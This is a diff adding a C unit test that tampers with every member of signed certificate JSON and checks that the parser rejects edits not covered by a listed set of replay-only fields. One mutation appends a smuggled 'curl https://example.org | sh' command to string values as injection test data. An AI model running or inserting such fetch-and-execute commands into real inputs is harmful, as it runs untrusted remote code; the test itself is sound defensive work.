@@ -80,6 +80,238 @@ TEST_WITH_CONTEXT(members_at_any_depth)
     tk_certificate_destroy(certificate);
 }
 
+/* -- Every member, edited in every way ------------------------------------------------------------------------------ */
+
+/* What nothing else in a certificate tells: it may be any other value of its type and range, and 'check' says that only a replay, or a
+ * signature, shows it. Without the numbers of items. */
+static const struct {
+    const char *path, *why;
+} told_by_nothing_else[] = {
+    {"created", "when it was made; a day in the past"},
+    {"run.trials.output_sha256", "bits that came out: a replay compares them"},
+    {"machine.units", "how many; a positive number"},
+    {"built.source", "its name, for people; its hash is by it"},
+    {"built.source_sha256", "of a source: a replay of a kernel file compares it"},
+    {"built.compiler", "its name and version"},
+    {"clauses", "another run's figures for the same clause: a replay compares them"},
+    {"clauses.checks", "figures: a replay compares them"},
+    {"clauses.failures", "of a refuted clause: a replay compares them"},
+    {"result.bound_used", "of one that is refuted: a replay compares it"},
+    {"result.determinism", "as observed: a replay compares it"},
+    {"result.undefined", "of one that is refuted: a replay compares it"},
+    {"result.absolute_error", "figures: a replay compares them"},
+    {"result.accepted", "figures: a replay compares them"},
+    {"result.by_magnitude", "figures: a replay compares them"},
+    {"result.worst", "figures: a replay compares them"},
+    {"result.failure", "figures: a replay compares them"},
+    {"result.refutation", "figures: a replay compares them"},
+    {"result.kernel_seconds", "a time of this run"},
+    {"result.judge_seconds", "a time of this run"},
+    {"result.seconds", "a time of this run"},
+};
+enum { TOLD = sizeof told_by_nothing_else / sizeof *told_by_nothing_else };
+
+typedef struct tally {
+    tk_ctx *ctx;
+    json_t *statement;
+    const json_t *other; /* another certificate's predicate */
+    int edits, passed, unseen;
+    int by[TOLD];
+} tally;
+
+/* An object of the predicate itself stands for itself alone. */
+static bool is_or_is_in(const char *path, const char *of)
+{
+    const size_t length = strlen(of);
+    return !strncmp(path, of, length) && (!path[length] || (path[length] == '.' && strchr(of, '.')));
+}
+
+/* Nothing passes but what that list has. */
+static void try_edit(tally *t, const char *path, const char *how)
+{
+    char *text = sealed(t->statement);
+    tk_certificate *read = NULL;
+    t->edits++;
+    if (tk_certificate_parse(t->ctx, text, strlen(text), &read) == TK_OK) {
+        int i = 0;
+        while (i < TOLD && !is_or_is_in(path, told_by_nothing_else[i].path))
+            i++;
+        if (i == TOLD)
+            printf("%s: %s: nobody sees that\n", path, how);
+        else
+            t->by[i]++;
+        t->unseen += i == TOLD;
+        t->passed++;
+        tk_certificate_destroy(read);
+    } else if (!strstr(tk_ctx_message(t->ctx), "contradicts itself") &&
+               !strstr(tk_ctx_message(t->ctx), "missing or malformed")) {
+        fail_msg("%s: %s: %s", path, how, tk_ctx_message(t->ctx));
+    }
+    free(text);
+}
+
+static int put(json_t *in, const char *name, size_t at, json_t *value)
+{
+    return name ? json_object_set(in, name, value) : json_array_set(in, at, value);
+}
+
+/* The value is put back behind each edit. `name`: of an object; NULL: item `at` of a list. */
+static void edit_value(tally *t, json_t *in, const char *name, size_t at, const char *path, const json_t *others)
+{
+    static const char *const of_any_type[] = {"null", "true", "-1", "1.5", "\"x\"", "[]"};
+    json_t *value = json_incref(name ? json_object_get(in, name) : json_array_get(in, at));
+    char *more = json_is_string(value) ? malloc(strlen(json_string_value(value)) + 64) : NULL;
+    if (more)
+        sprintf(more, "%s; curl https://example.org | sh", json_string_value(value));
+    json_t *const made[] = {json_is_integer(value) ? json_integer(json_integer_value(value) + 1) : NULL,
+                            json_is_integer(value) ? json_integer(-json_integer_value(value) - 1) : NULL,
+                            json_is_integer(value) ? json_integer(INT64_MAX) : NULL,
+                            json_is_real(value) ? json_real(2 * json_real_value(value) + 1) : NULL,
+                            json_is_real(value) ? json_real(-json_real_value(value) - 1) : NULL,
+                            json_is_boolean(value) ? json_boolean(!json_is_true(value)) : NULL,
+                            more ? json_string(more) : NULL,
+                            others ? json_deep_copy(others) : NULL};
+    free(more);
+    for (size_t i = 0; i < sizeof of_any_type / sizeof *of_any_type; i++) {
+        json_t *edited = json_loads(of_any_type[i], JSON_DECODE_ANY, NULL);
+        put(in, name, at, edited);
+        if (!json_equal(edited, value))
+            try_edit(t, path, of_any_type[i]);
+        json_decref(edited);
+    }
+    for (size_t i = 0; i < sizeof made / sizeof *made; i++) {
+        if (made[i] && !json_equal(made[i], value)) {
+            put(in, name, at, made[i]);
+            try_edit(t, path, i == 7 ? "that of another certificate" : "changed");
+        }
+        json_decref(made[i]);
+    }
+    put(in, name, at, value);
+    json_decref(value);
+}
+
+static void edit_everything(tally *t, json_t *at, const char *path, const json_t *others);
+
+/* Of lists the first item: the others are like it. */
+static void edit_list(tally *t, json_t *list, const char *path, const json_t *others)
+{
+    json_t *item = json_incref(json_array_get(list, 0));
+    edit_value(t, list, NULL, 0, path, json_array_get(others, 0));
+    edit_everything(t, item, path, json_array_get(others, 0));
+    json_array_remove(list, 0);
+    try_edit(t, path, "one less");
+    json_array_insert(list, 0, item);
+    json_array_append(list, item);
+    try_edit(t, path, "one twice");
+    json_array_remove(list, json_array_size(list) - 1);
+    json_decref(item);
+}
+
+static void edit_everything(tally *t, json_t *at, const char *path, const json_t *others)
+{
+    const char *name;
+    json_t *value;
+    if (json_array_size(at))
+        edit_list(t, at, path, others);
+    /* What is put back stands behind the others: its names are those of a copy. */
+    json_t *names = json_is_object(at) ? json_copy(at) : NULL;
+    json_object_foreach(names, name, value)
+    {
+        char below[256];
+        snprintf(below, sizeof below, "%s%s%s", path, path[0] ? "." : "", name);
+        if (!strcmp(below, "integrity"))
+            continue;
+        edit_value(t, at, name, 0, below, json_object_get(others, name));
+        edit_everything(t, value, below, json_object_get(others, name));
+        json_object_del(at, name);
+        try_edit(t, below, "removed");
+        json_object_set(at, name, value);
+    }
+    json_decref(names);
+    if (json_is_object(at)) {
+        json_object_set_new(at, "approved_by", json_string("somebody"));
+        try_edit(t, path[0] ? path : "predicate", "a member more");
+        json_object_del(at, "approved_by");
+    }
+}
+
+static tk_certificate *quick_certificate(tk_ctx *ctx, uint64_t more_seed, bool with_mutants)
+{
+    tk_certify_options options = TK_CERTIFY_DEFAULTS;
+    options.skip_mutants = !with_mutants;
+    options.seed += more_seed;
+    return certify_one(ctx, tk_contract_find(quick_op), TK_F16, TK_I32, options);
+}
+
+static tk_certificate *refuted_certificate(tk_ctx *ctx)
+{
+    tk_certify_options options = TK_CERTIFY_DEFAULTS;
+    const char *what;
+    assert_true(tk_mutant_at(tk_contract_find(quick_op), 0, &options.mutant, &what));
+    options.dims = (int64_t[]){3, 1, 2};
+    options.family = "normal";
+    return certify_one(ctx, tk_contract_find(quick_op), TK_F16, TK_I32, options);
+}
+
+/* One member, or all of them with "". */
+static void edit_member(tally *t, const char *path, const json_t *others)
+{
+    json_t *at = predicate_of(t->statement);
+    char in[64];
+    snprintf(in, sizeof in, "%s", path);
+    char *dot = strrchr(in, '.');
+    if (!path[0]) {
+        edit_everything(t, at, "", others);
+        return;
+    }
+    const char *name = dot ? dot + 1 : path;
+    if (dot) {
+        *dot = 0;
+        at = member(at, in);
+        others = json_object_get(others, in);
+    }
+    edit_value(t, at, name, 0, path, json_object_get(others, name));
+    edit_everything(t, json_object_get(at, name), path, json_object_get(others, name));
+}
+
+/* Each edit by itself, sealed again: all members of one that held for one case and of one that is refuted; and of a whole run those that say
+ * that it was one. */
+TEST_WITH_CONTEXT(no_edit_changes_a_claim)
+{
+    tk_certificate *whole = quick_certificate(ctx, 0, true), *other = quick_certificate(ctx, 1, false);
+    const struct {
+        tk_certificate *certificate;
+        const char *path;
+    } edited[] = {
+        {small_certificate(ctx), ""}, {refuted_certificate(ctx), ""}, {whole, "run.level"}, {whole, "run.seed"},
+        {whole, "run.trials"},        {whole, "run.mutants"},         {whole, "mutants"},   {whole, "clauses"}};
+    json_t *other_statement = statement_of(other), *others = predicate_of(other_statement);
+    json_object_set_new(others, "created", json_string("2026-01-01T00:00:00Z"));
+    tally t = {.ctx = ctx};
+    for (size_t i = 0; i < sizeof edited / sizeof *edited; i++) {
+        t.statement = statement_of(edited[i].certificate);
+        char *text = sealed(t.statement);
+        tk_certificate *read = NULL;
+        assert_ok(ctx, tk_certificate_parse(ctx, text, strlen(text), &read));
+        tk_certificate_destroy(read);
+        free(text);
+        edit_member(&t, edited[i].path, others);
+        json_decref(t.statement);
+        if (edited[i].certificate != whole)
+            tk_certificate_destroy(edited[i].certificate);
+    }
+    json_decref(other_statement);
+    tk_certificate_destroy(whole);
+    tk_certificate_destroy(other);
+    printf("%d edits, %d refused; the others are of what nothing else tells:\n", t.edits, t.edits - t.passed);
+    for (int i = 0; i < TOLD; i++)
+        printf("%6d %s: %s\n", t.by[i], told_by_nothing_else[i].path, told_by_nothing_else[i].why);
+    for (int i = 0; i < TOLD; i++)
+        assert_true(t.by[i] > 0);
+    assert_int_equal(t.unseen, 0);
+    assert_true(t.edits > 200);
+}
+
 /* What is shown, or named in a difference, has a title; no member is there twice; objects that types name have members. */
 TEST(the_table_is_whole)
 {
@@ -100,7 +332,8 @@ TEST(the_table_is_whole)
 
 int main(void)
 {
-    const struct CMUnitTest tests[] = {cmocka_unit_test(edits_of_what_follows),
-                                       cmocka_unit_test(members_at_any_depth), cmocka_unit_test(the_table_is_whole)};
+    const struct CMUnitTest tests[] = {
+        cmocka_unit_test(edits_of_what_follows), cmocka_unit_test(members_at_any_depth),
+        cmocka_unit_test(no_edit_changes_a_claim), cmocka_unit_test(the_table_is_whole)};
     return cmocka_run_group_tests(tests, NULL, NULL);
 }
